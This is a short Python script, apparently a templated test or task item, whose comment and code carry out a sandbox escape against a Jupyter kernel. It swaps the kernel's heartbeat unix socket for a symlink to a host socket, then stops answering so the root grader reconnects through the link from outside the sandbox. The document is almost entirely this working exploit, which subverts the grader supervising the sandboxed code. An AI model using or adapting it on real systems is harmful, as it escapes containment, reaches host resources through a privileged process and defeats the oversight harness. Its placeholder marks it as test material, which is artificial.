# Attack: the kernel's unix sockets live in a folder it owns, and the grader (root) connects to
# them by path. Replace the heartbeat socket with a symbolic link to a socket of the host, then
# stop answering heartbeats: the grader reconnects, following the link, from outside the sandbox.
import os
import sys
import time

app = sys.modules["ipykernel.kernelapp"].IPKernelApp.instance()
heartbeat = f"{app.ip}-{app.hb_port}"  # ipc transport: the path of the socket
os.unlink(heartbeat)
os.symlink("{{TARGET}}", heartbeat)
app.heartbeat.socket.close(linger=0)
time.sleep(6)  # the grader misses a beat each second and connects again
raise RuntimeError(f"heartbeat now leads to {os.readlink(heartbeat)}")
